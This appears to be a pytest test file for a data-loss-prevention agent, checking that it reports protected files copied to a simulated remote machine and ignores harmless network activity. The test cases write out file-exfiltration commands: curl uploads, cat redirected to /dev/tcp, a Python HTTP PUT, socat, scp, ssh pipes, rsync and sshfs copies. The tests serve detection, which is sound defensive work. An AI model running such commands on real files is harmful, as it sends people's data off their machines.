"""Uploads, ssh, mail and shares with the real agent and a machine far away: each copy told, and people's other work not.

The far machine is a network namespace (tests/far.py); programs run as a person who logged in.
"""

import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agent.pytest_plugin import Agent, Media
from tests.far import NEEDS, Far, far
from tests.house import LOGIN_UID, as_person, can_set_loginuid, none_is_bad_ocsf

pytestmark = NEEDS
SIZE = 300_000
QUIET_S = 3.5
SERVERS_ARE_NAMED = tuple(map(int, re.findall(r"\d+", os.uname().release)[:2])) >= (6, 14)
"""After this nothing more is told of a connection that fell quiet."""


@pytest.fixture(scope="module")
def machine() -> Iterator[Far]:
    with far() as made:
        yield made


@pytest.fixture
def agent(tmp_path: Path, sekisho_media: Media) -> Iterator[Agent]:
    made = Agent(tmp_path, sekisho_media)
    run(f"head -c {SIZE} /dev/urandom > {made.protected}/a.csv")
    run(f"head -c 100000 /dev/urandom | od -An -v -tx1 > {made.protected}/b.csv")
    made.start()
    yield made
    made.stop()
    none_is_bad_ocsf(made.events())


def run(shell: str) -> None:
    subprocess.run(["bash", "-c", shell], check=True, capture_output=True, stdin=subprocess.DEVNULL, timeout=60)


def ours(event: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = event["unmapped"]["sekisho"]
    return found


def told(agent: Agent, name: str = "a.csv") -> dict[str, Any]:
    """What is said of the one copy of a file."""
    event = agent.wait_for("file.copied_out", where=lambda event: ours(event)["protected"]["rel"] == name)
    assert len([each for each in agent.events("file.copied_out") if ours(each)["protected"]["rel"] == name]) == 1
    said = ours(event)
    assert said["way"] == "network"
    if can_set_loginuid():
        assert said["login"]["uid"] == LOGIN_UID
    return said


def nothing_is_told(agent: Agent) -> None:
    """By when a connection that is quiet has been judged."""
    deadline = time.monotonic() + QUIET_S
    while time.monotonic() < deadline:
        assert not agent.events("file.copied_out")
        time.sleep(0.2)


UPLOADS = {
    "curl -T": ("curl", "curl -s -T {file} http://{address}:{http}/"),
    "a form by curl": ("curl", "curl -s -F list=@{file} http://{address}:{http}/"),
    "the shell alone": ("cat", "cat {file} > /dev/tcp/{address}/{sink}"),
    "python": (
        "python",
        '{python} -c \'import http.client as h; c = h.HTTPConnection("{address}", {http});'
        ' c.request("PUT", "/", open("{file}", "rb").read()); c.getresponse().read()\'',
    ),
}


@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")
@pytest.mark.parametrize("name", UPLOADS)
def test_an_upload(agent: Agent, machine: Far, name: str) -> None:
    program, shell = UPLOADS[name]
    ports = {"http": machine.http(), "sink": machine.sink()}
    as_person(shell.format(file=agent.protected / "a.csv", address=machine.address, python=sys.executable, **ports))
    said = told(agent)
    assert said["link"] == "process" and said["confidence"] >= 0.8 and said["bytes"] == SIZE
    assert said["dest"]["peer"] in {f"{machine.address}:{port}" for port in ports.values()}
    assert program in said["process"]["exe"]


@pytest.mark.skipif(shutil.which("socat") is None, reason="needs socat")
def test_a_pipe_into_a_program_that_sends(agent: Agent, machine: Far) -> None:
    as_person(f"cat {agent.protected}/a.csv | socat -u STDIN TCP:{machine.address}:{machine.sink()}")
    said = told(agent)
    assert said["link"] == "pipeline" and said["process"]["exe"].endswith("/cat")


SSH = {
    "scp": ("scp -q {ssh} {file} far:{there}", "pipeline", 0.7),
    "sftp": ("echo put {file} {there} | sftp -q -b - {ssh} far", "pipeline", 0.7),
    "ssh <": ("ssh {ssh} far 'cat > {there}' < {file}", "process", 0.7),
    "tar | ssh": ("tar c {file} | ssh {ssh} far 'cat > {there}'", "pipeline", 0.6),
    "tar z | ssh": ("tar cz {file} | ssh {ssh} far 'cat > {there}'", "pipeline", 0.3),
    "rsync -z": ("rsync -z -e 'ssh {ssh}' {file} far:{there}", "pipeline", 0.3),
}


@pytest.mark.parametrize("name", SSH)
def test_over_ssh(agent: Agent, machine: Far, tmp_path: Path, name: str) -> None:
    shell, link, least = SSH[name]
    if shutil.which(shell.split()[0]) is None:
        pytest.skip(f"needs {shell.split()[0]}")
    home = tmp_path / "ssh"
    home.mkdir()
    ssh = machine.ssh(home)
    as_person(shell.format(file=agent.protected / "b.csv", ssh=ssh, there=home / "there"))
    said = told(agent, "b.csv")
    assert said["link"] == link and said["confidence"] >= least


@pytest.mark.skipif(shutil.which("sshfs") is None or not Path("/dev/fuse").exists(), reason="needs sshfs and /dev/fuse")
@pytest.mark.parametrize("named", ["", "-o fsname=notes,subtype=notes", "-o fsname=/tmp"])
@pytest.mark.parametrize("uid", [0, 65534])
def test_a_share_is_a_way_out_even_if_it_keeps_root_out_or_has_another_name(
    agent: Agent, machine: Far, tmp_path: Path, uid: int, named: str
) -> None:
    if named.endswith("/tmp") and not uid:
        pytest.skip("what root mounts is taken for what it says it is")
    if named and not SERVERS_ARE_NAMED:
        pytest.skip("needs a kernel that says in fdinfo whose connection a descriptor of /dev/fuse is (6.14)")
    home, share = tmp_path / "ssh", tmp_path / "share"
    home.mkdir()
    share.mkdir()
    options = machine.ssh(home)
    for path in (share, home / "id"):
        os.chown(path, uid, uid)
    for folder in (home, *home.parents[:4], agent.protected):
        folder.chmod(folder.stat().st_mode | 0o555)
    (home / "there").mkdir()
    (home / "there").chmod(0o777)
    person = f"setpriv --reuid {uid} --regid {uid} --clear-groups"
    shell = f"{person} sshfs {named} {options} far:{home}/there {share}"
    done = subprocess.run(["bash", "-c", shell], capture_output=True, text=True)
    if done.returncode:
        pytest.skip(f"needs FUSE mounts: {done.stderr.strip()}")
    try:
        agent._until(lambda: str(share) in agent.status().get("watched_media", []), "the share is not watched")
        as_person(f"{person} cp {agent.protected}/a.csv {share}/; {person} cp /etc/hostname {share}/")
        said = told(agent)
        assert said["link"] == "process" and said["dest"]["path"] == f"{share}/a.csv"
        assert said["dest"]["peer"].startswith(machine.address if named else "far:") and "medium" not in said
    finally:
        run(f"umount -l {share}")
    assert not [each for each in agent.events() if each["metadata"]["event_code"].startswith(("medium.", "file.written"))]


def test_limits_and_switches(tmp_path: Path, sekisho_media: Media, machine: Far) -> None:
    config = '[agent.ways]\nseverity = "high"\n[[agent.limit]]\nname = "net"\nfiles = 1\nwindow = "1h"\nways = ["network"]\n'
    agent = Agent(tmp_path, sekisho_media, config)
    (agent.protected / "a.csv").write_bytes(os.urandom(SIZE))
    agent.start()
    try:
        as_person(f"cat {agent.protected}/a.csv > /dev/tcp/{machine.address}/{machine.sink()}")
        assert agent.wait_for("copy.net")["severity_id"] == 4
        assert agent.wait_for("file.copied_out")["severity_id"] == 4
        config_off = agent.config_file.read_text().replace('severity = "high"', 'network = "off"')
        agent.stop()
        agent.config_file.write_text(config_off)
        agent.start()
        as_person(f"cat {agent.protected}/a.csv > /dev/tcp/{machine.address}/{machine.sink()}")
        time.sleep(QUIET_S)
        assert len(agent.events("file.copied_out")) == 1
    finally:
        agent.stop()


# -- innocents -------------------------------------------------------------------------------------------------------


def test_a_program_that_counts_and_says_so(agent: Agent, machine: Far) -> None:
    """It reads all and sends a line: what left is no twentieth."""
    as_person(f"wc -l {agent.protected}/*.csv > /dev/tcp/{machine.address}/{machine.sink()}")
    nothing_is_told(agent)


def test_a_search_while_something_else_is_sent(agent: Agent, machine: Far, tmp_path: Path) -> None:
    """The search reads, another program of the same person sends: they have nothing to do with each other."""
    (tmp_path / "other").write_bytes(os.urandom(SIZE))
    as_person(
        f"cat {tmp_path}/other > /dev/tcp/{machine.address}/{machine.sink()} &"
        f" grep -r nobody {agent.protected}; md5sum {agent.protected}/*; wait"
    )
    nothing_is_told(agent)


def test_a_chat_that_looks_at_a_file(agent: Agent, machine: Far) -> None:
    """Connected long before, it reads a file to show it, and goes on chatting."""
    script = (
        f'import socket, time; s = socket.create_connection(("{machine.address}", {machine.sink()}));'
        f' s.sendall(b"x" * 40000); time.sleep(1); open("{agent.protected}/a.csv", "rb").read();'
        ' [(s.sendall(b"y" * 500), time.sleep(0.1)) for _ in range(20)]'
    )
    as_person(f"{sys.executable} -c '{script}'")
    nothing_is_told(agent)


def test_a_copy_within_the_machine_by_sockets(agent: Agent, tmp_path: Path) -> None:
    """A backup server on this machine takes all: nothing leaves."""
    script = tmp_path / "backup.py"
    script.write_text(
        "import socket, sys, threading\n"
        "server = socket.create_server(('127.0.0.1', 0))\n"
        "def give():\n"
        "    with socket.create_connection(server.getsockname()) as near, open(sys.argv[1], 'rb') as file:\n"
        "        near.sendall(file.read())\n"
        "threading.Thread(target=give).start()\n"
        "taken, _ = server.accept()\n"
        "while taken.recv(1 << 16):\n"
        "    pass\n"
    )
    as_person(f"{sys.executable} {script} {agent.protected}/a.csv")
    nothing_is_told(agent)
